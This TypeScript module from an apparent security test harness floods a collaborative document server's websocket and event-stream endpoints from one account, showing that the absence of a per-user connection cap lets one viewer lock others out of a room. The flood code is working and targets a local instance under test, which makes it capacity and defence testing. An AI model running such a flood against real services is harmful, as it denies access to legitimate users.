/**
 * Attack 3: as many websockets to the document, and as many event streams, as the one account can
 * get, held open and read (a client that reads is the cheap case for the server; attack 2 is the
 * one that does not). More are tried than the room holds (MAX_CONNECTIONS_PER_ROOM, 250 by
 * default): without a cap per user one viewer fills the room and nobody else can rejoin.
 */
import http from 'node:http'
import WebSocket from 'ws'
import { runLoop } from '../loop.js'
import { Tally } from '../tally.js'
import { type Attack, type AttackContext, cookieFor } from './context.js'

export const websocketFloodPlan = { maxAttempts: 1_500, maxInFlight: 300, perSecond: 10 }
export const streamFloodPlan = { maxAttempts: 600, maxInFlight: 60, perSecond: 5 }

/** One websocket to the document as the account; resolves when it closed. */
export function holdWebsocket(
  ctx: AttackContext,
  tally: Tally,
  cookie: string,
  onOpen?: (ws: WebSocket) => void,
) {
  const { target } = ctx
  const url = `${target.httpBase.replace(/^http/, 'ws')}/collab/${target.documentId}`
  return new Promise<void>((resolve) => {
    const ws = new WebSocket(url, {
      headers: { cookie, origin: target.origin },
      perMessageDeflate: false,
      handshakeTimeout: 10_000,
    })
    ctx.sockets.addWs(ws)
    let answered = false
    let opened = false
    let release = () => {}
    const stop = () => ws.terminate()
    ctx.signal.addEventListener('abort', stop, { once: true })
    ws.on('message', () => {})
    ws.on('unexpected-response', (request, response) => {
      answered = true
      tally.outcome(`http ${response.statusCode}`)
      response.resume()
      request.destroy()
    })
    ws.on('open', () => {
      answered = true
      opened = true
      tally.outcome('open')
      release = tally.hold(() => ws.readyState === WebSocket.OPEN)
      onOpen?.(ws)
    })
    ws.on('error', (error: NodeJS.ErrnoException) => {
      if (answered || ctx.signal.aborted) return
      answered = true
      tally.outcome(
        error.code === 'ECONNRESET' ? 'reset' : `error ${error.code ?? error.message.slice(0, 60)}`,
      )
    })
    ws.on('close', (code) => {
      release()
      ctx.signal.removeEventListener('abort', stop)
      if (opened) tally.outcome(ctx.signal.aborted ? 'open until the end' : `close ${code}`)
      else if (!answered) tally.outcome(ctx.signal.aborted ? 'stopped at the end' : 'closed before an answer')
      resolve()
    })
  })
}

export function connectionFlood(ctx: AttackContext): Attack {
  const sockets = new Tally('websocket-flood', 'websockets to the document, held (3)', 'websockets')
  const streams = new Tally('stream-flood', 'event streams, read and held (3)', 'eventStreams')
  const { target } = ctx
  const websocketsDone = runLoop(websocketFloodPlan, ctx.signal, sockets, (i) =>
    holdWebsocket(ctx, sockets, cookieFor(target, i)),
  )
  const streamsDone = runLoop(
    streamFloodPlan,
    ctx.signal,
    streams,
    (i) =>
      new Promise<void>((resolve) => {
        const request = http.get({
          host: '127.0.0.1',
          port: target.port,
          path: `/api/workspaces/${target.workspaceId}/events`,
          agent: false,
          headers: { cookie: cookieFor(target, i), origin: target.origin, accept: 'text/event-stream' },
        })
        request.on('socket', (socket) => ctx.sockets.addRaw(socket))
        const stop = () => request.destroy()
        ctx.signal.addEventListener('abort', stop, { once: true })
        let release = () => {}
        let admitted = false
        const timer = setTimeout(() => request.destroy(new Error('no answer in 10 s')), 10_000)
        request.on('response', (response) => {
          clearTimeout(timer)
          streams.outcome(`http ${response.statusCode}`)
          admitted = response.statusCode === 200
          if (admitted) release = streams.hold(() => !response.destroyed)
          response.on('data', () => {})
          response.on('end', () => {
            if (admitted && !ctx.signal.aborted) streams.outcome('ended by server')
          })
        })
        request.on('error', (error: NodeJS.ErrnoException) => {
          if (ctx.signal.aborted) return
          streams.outcome(error.code === 'ECONNRESET' ? 'reset' : `error ${error.code ?? error.message}`)
        })
        request.on('close', () => {
          clearTimeout(timer)
          release()
          ctx.signal.removeEventListener('abort', stop)
          if (ctx.signal.aborted && admitted) streams.outcome('open until the end')
          resolve()
        })
      }),
  )
  return { tallies: [sockets, streams], done: Promise.all([websocketsDone, streamsDone]).then(() => {}) }
}
